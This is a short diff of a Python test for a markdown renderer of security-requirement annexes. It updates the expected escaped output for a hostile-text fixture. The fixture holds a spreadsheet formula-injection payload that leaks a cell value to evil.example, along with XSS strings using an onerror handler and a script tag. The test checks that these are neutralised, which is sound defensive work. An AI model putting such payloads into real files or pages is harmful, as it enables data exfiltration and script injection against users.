@@ -148,7 +148,7 @@ def test_annex_heads_requirements_with_their_ids_and_lists_the_rest() -> None:
     content = render_markdown.render(fixture_build())[annex_file("website", "md")].decode()
     heads = [line for line in content.splitlines() if line.startswith("## IS3C-")]
     assert heads == ["## IS3C-HOSTILE-TEXT: \\@SUM(1+1) \\<img src=x onerror=alert(\"short\")\\>: "
-                     "=HYPERLINK(\"https\\://evil.example/?leak=\"\\&A1,\"Click me\") "
+                     "\\=HYPERLINK(\"https\\://evil.example/?leak=\"\\&A1,\"Click me\") "
                      "\\<script\\>alert(\"title\")\\</script\\>",
                      "## IS3C-DNSSEC: DNSSEC: Domain Name System Security Extensions",
                      "## IS3C-TLS: TLS: Transport Layer Security"]
